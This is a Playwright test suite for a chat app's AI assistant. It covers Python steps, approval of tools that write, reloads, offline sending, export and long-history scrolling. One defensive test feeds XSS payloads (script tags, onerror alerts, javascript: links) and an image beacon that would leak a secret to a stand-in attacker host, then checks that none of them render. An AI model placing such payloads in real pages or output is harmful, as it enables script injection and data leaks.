/** The chat as a person uses it: the model is played by a twin, all else is real. */
import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { ChatPage, editorChatTest, expect, sharedChatTest, test } from './chatJourney.ts'
import { openSettings } from './journey.ts'

test.describe(() => {
  test.use({ editor: 'without checker' })

  test('an answer is thought out in Python, and an error on the way is repaired', async ({ chat, ai }) => {
    ai.play([
      {
        text: 'Let me look.',
        python: 'mining = await tools.get_mining_stats()\nprint("scope:", mining["scope"])\n1 / 0',
      },
      {
        failing: { openai: 'is-overloaded' },
        text: 'I mend that.',
        python: 'answer = 6 * 7\n{"answer": answer}',
      },
      { text: 'The scope is **pool**, and the answer is 42.\n\n```python\nprint("<b>bold</b>")\n```' },
    ])
    await chat.send('What is the scope?')
    await expect(chat.answer.locator('strong')).toHaveText('pool')

    await test.step('each step shows its code, what came of it, and how it went', async () => {
      const [failed, mended] = [chat.step(1), chat.step(2)]
      await expect(failed).toHaveAttribute('data-step-state', 'failed')
      await expect(failed.getByRole('region', { name: 'Output' })).toContainText('scope: pool')
      await expect(failed).toContainText('ZeroDivisionError: division by zero')
      await expect(failed.getByRole('region', { name: 'Tool calls' })).toContainText('get_mining_stats')
      await expect(mended).toHaveAttribute('data-step-state', 'completed')
      await expect(mended.getByRole('region', { name: 'Result' })).toContainText('42')
      await expect(mended).toContainText('answer = 6 * 7')
      // Coloured as in the editor, once that is there.
      await expect(mended.locator('code span[class^=mtk]').first()).toBeAttached({ timeout: 30_000 })
    })

    await test.step('the footer says who answered, who failed and what it took', async () => {
      const footer = chat.answer.locator('footer')
      await expect(footer).toContainText('OpenAI (gpt-6-luna)')
      await expect(footer).toContainText('tokens')
      await expect(footer).toContainText('$')
      await footer.getByRole('button', { name: '1 attempt failed' }).click()
      await expect(footer.getByRole('list')).toContainText('OpenAI (gpt-6-luna)')
    })

    await test.step('what has ended is read out, in one piece', async () => {
      await expect(chat.announcer).toContainText('The assistant answered: Let me look.')
      await expect(chat.messages).toHaveAttribute('aria-live', 'off')
    })

    await test.step('it has an address, stands in the list, and is there again after a reload', async () => {
      await expect(chat.page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
      await expect(chat.conversations).toContainText('What is the scope?')
      await chat.page.goto('/chat')
      await expect(chat.page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
      await expect(chat.answer.locator('strong')).toHaveText('pool')
      // Out of the log.
      await expect(chat.step(1).getByRole('region', { name: 'Tool calls' })).toContainText('get_mining_stats')
      await expect(chat.step(2).getByRole('region', { name: 'Result' })).toContainText('42')
    })

    await test.step('its code is opened in the editor', async () => {
      await chat.step(2).getByRole('button', { name: 'Open in editor' }).click()
      await expect(chat.page).toHaveURL(/\/scripts$/)
      await expect(chat.page.getByRole('tab', { name: /What is the scope/ })).toBeVisible()
    })
  })

  test('a step is edited and run in place, and the run that the assistant saw stays', async ({
    chat,
    ai,
  }) => {
    ai.play([{ python: 'n = 3\nprint("squares", [i * i for i in range(n)])' }, { text: 'These.' }])
    await chat.send('Squares, please')
    await chat.hasAnswered()
    const cell = chat.step(1)
    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('squares [0, 1, 4]')

    await cell.getByRole('button', { name: 'Edit', exact: true }).click()
    const field = cell.getByRole('textbox', { name: 'Code of Python step 1' })
    await field.focus()
    await chat.page.keyboard.press('ControlOrMeta+A')
    await chat.page.keyboard.insertText('n = 5\nprint("more squares", [i * i for i in range(n)])')
    await chat.page.keyboard.press('Escape')
    await expect(field).toBeHidden()
    await cell.getByRole('button', { name: 'Edit', exact: true }).click()
    await expect(cell).toContainText('n = 5')
    await field.focus()
    await chat.page.keyboard.press('ControlOrMeta+Enter')
    await expect(cell).toContainText('Edited; the assistant saw the first run.')
    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('more squares [0, 1, 4, 9, 16]')
    await cell.getByRole('button', { name: 'Show the first run' }).click()
    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('squares [0, 1, 4]')

    await chat.page.reload()
    await expect(cell).toContainText('Edited; the assistant saw the first run.')
    await expect(cell.getByRole('region', { name: 'Output' })).toContainText('more squares [0, 1, 4, 9, 16]')
    expect(ai.requests).toHaveLength(2)
  })
})

sharedChatTest('calls that write ask first, each for itself, while others go on', async ({ chat, ai }) => {
  ai.play([
    {
      python: `
async def kept(text):
    try:
        await tools.remember(text)
        return f"kept {text}"
    except ToolDenied:
        return f"denied {text}"
done = await asyncio.gather(kept("first"), kept("second"), tools.get_mining_stats())
print(done[0], "and", done[1], "and", done[2]["scope"])`,
    },
    { text: 'Done.', python: 'stored = await tools.remember("third")\nprint("third", stored["id"] != "")' },
    { text: 'All done.' },
  ])
  await chat.send('Remember some things')
  const asking = chat.page.getByRole('region', { name: 'remember asks' })
  await expect(asking).toHaveCount(2)
  await expect(asking.first()).toContainText('"first"')
  await expect(asking.first()).toContainText('writes')
  await expect(chat.announcer).toContainText('asks whether it may call remember and remember')
  // The one that only reads does not wait for them.
  await expect(chat.step(1).getByRole('region', { name: 'Tool calls' })).toContainText('Completed')
  // Nobody's typing is interrupted.
  await expect(chat.message).toBeFocused()

  await asking.first().getByRole('button', { name: 'Deny' }).press('Enter')
  await expect(asking).toHaveCount(1)
  await expect(asking.getByRole('button', { name: 'Allow' })).toBeFocused()
  await asking.getByRole('button', { name: 'Always in this conversation' }).click()
  await expect(chat.step(1).getByRole('region', { name: 'Output' })).toContainText(
    'denied first and kept second and pool',
  )
  await expect(chat.step(2).getByRole('region', { name: 'Output' })).toContainText('third True')
  await expect(chat.answer).toContainText('All done.')
  await chat.button('Chat options').click()
  await expect(chat.page.getByRole('dialog')).toContainText('Always allowed in this conversation: remember')
  await chat.page.getByRole('checkbox', { name: 'Ask before tools that write' }).uncheck()
  await chat.page.keyboard.press('Escape')
  await openSettings(chat.page)
  await expect(chat.page.getByRole('checkbox', { name: 'Ask before tools that write' })).not.toBeChecked()
})

test('a reload in the middle of an answer keeps what came, and it can be continued', async ({
  chat,
  ai,
  backend,
}) => {
  ai.play([{ text: 'The first half of the answer', hangs: true }, { text: ' and the second half.' }])
  await chat.send('Tell me all')
  await expect(chat.answer).toContainText('The first half of the answer')
  await expect
    .poll(() => readKept(chat.page, backend.publishableKey))
    .toContain('The first half of the answer')
  await chat.page.reload()
  await expect(chat.answer).toContainText('The first half of the answer')
  await expect(chat.answer).toContainText('was cut off')
  await chat.button('Continue').click()
  await expect(chat.answer).toContainText('The first half of the answer and the second half.')
  await chat.hasAnswered()
  await expect(chat.answer).not.toContainText('was cut off')
})

test('a message written while offline is sent once, when the connection is back', async ({ chat, ai }) => {
  ai.play([{ text: 'Here I am.' }])
  await chat.canGoOffline()
  await chat.page.context().setOffline(true)
  await chat.send('Anybody there?')
  await expect(chat.messages).toContainText('The message is sent when the connection is back.')
  await chat.page.context().setOffline(false)
  await expect(chat.answer).toContainText('Here I am.')
  expect(ai.requests).toHaveLength(1)
  await expect(chat.messages.getByRole('article', { name: 'You' })).toHaveCount(1)
})

sharedChatTest('Stop ends the model while it writes, and Python while it loops', async ({ chat, ai }) => {
  ai.play([{ text: 'On and on', hangs: true }])
  await chat.send('Write')
  await expect(chat.answer).toContainText('On and on')
  await chat.message.press('Escape')
  await expect(chat.answer).toContainText('Stopped.')
  await expect.poll(() => ai.requests[0]?.isAborted).toBe(true)

  ai.play([{ python: 'print("looping", flush=True)\nwhile True:\n    pass' }, { text: 'never said' }])
  await chat.send('Loop')
  await expect(chat.step(1).getByRole('region', { name: 'Output' })).toContainText('looping')
  await chat.button('Stop').click()
  await expect(chat.step(1)).toHaveAttribute('data-step-state', 'stopped')
  await chat.hasAnswered()
  await expect(chat.answer).toContainText('Stopped.')
  expect(ai.requests).toHaveLength(1)
})

editorChatTest(
  'what a model says loads nothing, runs nothing and leads nowhere but out',
  async ({ chat, ai }) => {
    const asked: string[] = []
    chat.page.on('request', (request) => {
      if (request.url().includes('evil.example')) asked.push(request.url())
    })
    chat.page.on('dialog', (dialog) => {
      asked.push(dialog.message())
      void dialog.dismiss()
    })
    ai.play([
      {
        text: [
          '<script>alert(1)</script> <img src="http://evil.example/raw.png" onerror="alert(2)">',
          '![a **secret**](http://evil.example/beacon.png?q=secret)',
          '[press](javascript:alert(3)) [data](data:text/html,hi) [out](https://evil.example/page)',
          '[![both](http://evil.example/inner.png)](https://evil.example/outer)',
          '```python\n"</span><img src=x onerror=alert(4)>"\n```',
          '| a |\n|---|\n| ![x](http://evil.example/cell.png) |',
          'The end.',
        ].join('\n\n'),
      },
    ])
    await chat.send('Be evil')
    await expect(chat.answer).toContainText('The end.')
    await expect(chat.answer.locator('code span[class^=mtk]').first()).toBeAttached({ timeout: 30_000 })
    await expect(chat.answer.locator('img, script, iframe')).toHaveCount(0)
    const links = await chat.answer
      .locator('a')
      .evaluateAll((all) =>
        all.map((a) => [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')]),
      )
    for (const [href, rel, target] of links) {
      expect(href).toMatch(/^https?:/)
      expect([rel, target]).toEqual(['noopener noreferrer', '_blank'])
    }
    expect(asked).toEqual([])
  },
)

test('two thousand messages scroll, and few of them are in the page', async ({ chat, ai, backend }) => {
  ai.play([{ text: 'Begun.' }])
  await chat.send('A long story')
  await chat.hasAnswered()
  const id = chat.page.url().split('/').at(-1) ?? ''
  const headers = {
    apikey: backend.secretKey,
    authorization: `Bearer ${backend.secretKey}`,
    'content-type': 'application/json',
  }
  const table = `${backend.url}/rest/v1/`
  await expect
    .poll(
      async () =>
        (await (await fetch(`${table}messages?conversation_id=eq.${id}`, { headers })).json()).length,
    )
    .toBe(2)
  const [{ user_id }] = await (await fetch(`${table}conversations?id=eq.${id}`, { headers })).json()
  const rows = Array.from({ length: 2000 }, (_, n) => {
    const text = `Message ${n}: ${'so it went on '.repeat((n * 7) % 60)}`
    return {
      id: crypto.randomUUID(),
      conversation_id: id,
      user_id,
      role: n % 2 === 0 ? 'user' : 'assistant',
      content: text,
      parts: [{ type: 'text', text }],
      created_at: new Date(Date.now() + 60_000 + n * 1000).toISOString(),
    }
  })
  for (let from = 0; from < rows.length; from += 500) {
    const body = JSON.stringify(rows.slice(from, from + 500))
    const stored = await fetch(`${table}messages`, { method: 'POST', headers, body })
    expect(stored.status, await stored.text()).toBe(201)
  }
  await chat.page.reload()
  await expect(chat.answer).toContainText('Message 1999:')
  expect(await chat.messages.getByRole('article').count()).toBeLessThan(60)

  await chat.messages.focus()
  await chat.page.keyboard.press('Home')
  await expect(chat.messages).toContainText('A long story')
  await expect(chat.button('Jump to the latest')).toBeVisible()

  // In the middle: what stands there keeps its place while rows above are measured.
  await chat.messages.evaluate((log) => log.scrollTo({ top: log.scrollHeight / 2 }))
  const shown = async (): Promise<number[]> =>
    (await chat.messages.getByRole('article').allTextContents()).flatMap((text) => {
      const number = /Message (\d+)/.exec(text)?.[1]
      return number === undefined ? [] : [Number(number)]
    })
  const firstShown = async () => Math.min(...(await shown()))
  await expect.poll(async () => (await shown()).length).toBeGreaterThan(3)
  await expect.poll(firstShown).toBeGreaterThan(100)
  await chat.page.mouse.move(700, 400)
  const seen = new Set<number>()
  for (let step = 0; step < 10; step += 1) {
    const before = await firstShown()
    await chat.page.mouse.wheel(0, -400)
    await expect.poll(firstShown).toBeLessThan(before)
    for (const number of await shown()) seen.add(number)
  }
  const numbers = [...seen].toSorted((a, b) => a - b)
  // Not one is jumped over.
  expect(numbers.at(-1)).toBe((numbers[0] ?? 0) + numbers.length - 1)
  await chat.button('Jump to the latest').click()
  await expect(chat.answer).toContainText('Message 1999:')
})

sharedChatTest(
  'a conversation is renamed, searched, deleted and brought back, by keyboard on a narrow screen',
  async ({ chat, ai }) => {
    const { page } = chat
    await page.setViewportSize({ width: 390, height: 844 })
    ai.play([
      { text: `A ${'very'.repeat(60)} long word\n\n\`\`\`python\nx = "${'wide '.repeat(60)}"\n\`\`\`` },
    ])
    await chat.send('Something about walruses')
    await chat.hasAnswered()
    const overflow = () =>
      page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
    expect(await overflow()).toBeLessThanOrEqual(0)
    expect(await chat.messages.evaluate((log) => log.scrollWidth - log.clientWidth)).toBeLessThanOrEqual(0)

    await chat.button('Conversations').focus()
    await page.keyboard.press('Enter')
    await page.getByRole('searchbox', { name: 'Search conversations' }).fill('walruses')
    const item = chat.conversations.getByRole('link', { name: 'Something about walruses' })
    await expect(item).toHaveCount(1)
    await page.getByRole('searchbox', { name: 'Search conversations' }).fill('')
    await chat.button('Menu of Something about walruses').press('Enter')
    await page.getByRole('menuitem', { name: 'Rename' }).press('Enter')
    await expect(page.getByRole('textbox', { name: /^New title of/ })).toBeFocused()
    await page.keyboard.insertText('Walrus facts')
    await page.keyboard.press('Enter')
    await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toBeVisible()
    await chat.button('Menu of Walrus facts').press('Enter')
    await page.getByRole('menuitem', { name: 'Delete' }).press('Enter')
    await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toHaveCount(0)
    await page.getByRole('button', { name: 'Undo' }).click()
    await expect(chat.conversations.getByRole('link', { name: 'Walrus facts' })).toBeVisible()
    await expect(chat.messages).toContainText('Something about walruses')
  },
)

test('what is typed outlives a reload, each conversation its own', async ({ chat, ai }) => {
  ai.play([{ text: 'Yes.' }])
  await chat.send('First')
  await chat.hasAnswered()
  await chat.message.fill('half a thought')
  await chat.page.getByRole('link', { name: 'New', exact: true }).click()
  await expect(chat.page).toHaveURL(/new$/)
  await expect(chat.message).toHaveValue('')
  await chat.message.fill('another')
  await chat.page.reload()
  await expect(chat.message).toHaveValue('another')
  await chat.conversations.getByRole('link', { name: 'First' }).click()
  await expect(chat.message).toHaveValue('half a thought')
  await chat.message.press('Shift+Enter')
  await expect(chat.message).toHaveValue('half a thought\n')
})

sharedChatTest(
  'a conversation is exported for people and for machines, and imported as another one',
  async ({ chat, ai }) => {
    const { page } = chat
    ai.play([{ python: 'print("exported", 1)' }, { text: 'Kept.' }])
    await chat.send('Keep: this/that')
    await chat.hasAnswered()
    const save = async (kind: string) => {
      await chat.button('Menu of Keep: this/that').first().click()
      const saving = page.waitForEvent('download')
      await page.getByRole('menuitem', { name: `Export as ${kind}` }).click()
      return saving
    }
    const markdown = await save('Markdown')
    expect(markdown.suggestedFilename()).toBe('Keep-this-that.md')
    expect(readFileSync(await markdown.path(), 'utf8')).toContain('print("exported", 1)')
    const json = await (await save('JSON')).path()
    const before = page.url()
    await page.getByLabel('File of a conversation').setInputFiles(json)
    await expect(page).not.toHaveURL(before)
    await expect(chat.answer).toContainText('Kept.')
    await expect(chat.conversations.getByRole('link', { name: 'Keep: this/that' })).toHaveCount(2)
    await page.getByLabel('File of a conversation').setInputFiles({
      name: 'other.json',
      mimeType: 'application/json',
      buffer: Buffer.from('{"format": "of another app"}'),
    })
    await expect(page.getByText('This file holds no conversation.')).toBeVisible()
  },
)

test('without any model, workflows are matched and run, and Python in a fence runs', async ({
  page,
  twins,
  playBackend,
}) => {
  const backend = await playBackend({ SUPPORTXMR_API_URL: twins.miningUrl })
  await page.goto(`${backend.url}/chat/new`)
  const chat = new ChatPage(page)
  await expect(page.getByText('No model is configured.')).toBeVisible()
  await chat.send('statistics of the mining pool')
  await expect(chat.answer).toContainText('this is not an answer')
  const matches = chat.answer.getByRole('list', { name: 'Workflows that match' })
  await matches.getByRole('button', { name: /^Run / }).first().click()
  await expect(chat.step(1)).toHaveAttribute('data-step-state', 'completed')

  await expect(chat.conversations).toContainText('statistics of the mining pool')

  await chat.send('zzyzx qwrtp')
  await expect(chat.answer).toContainText('no workflow in the library matches your message')

  await chat.send('```python\nprint("by hand", 6 * 7)\n```')
  await expect(chat.step(1).getByRole('region', { name: 'Output' })).toContainText('by hand 42')
})

/** Reads the undelivered messages on disk, and the backend's copy of the latest. */
const readKept = (page: Page, apikey: string): Promise<string> =>
  page.evaluate(async (apikey) => {
    const settled = <Value>(request: IDBRequest<Value>) =>
      new Promise<Value>((resolve, reject) => {
        request.addEventListener('success', () => resolve(request.result))
        request.addEventListener('error', () => reject(new Error(String(request.error))))
      })
    const database = await settled(indexedDB.open('eliza-conversations'))
    const rows = await settled(database.transaction('rows').objectStore('rows').getAll())
    database.close()
    const { access_token: token } = JSON.parse(localStorage.getItem('eliza.session') ?? '{}')
    const stored = await fetch('/rest/v1/messages?select=parts&order=created_at.desc&limit=2', {
      headers: { apikey, authorization: `Bearer ${token}` },
    })
    return JSON.stringify([rows, await stored.json()])
  }, apikey)
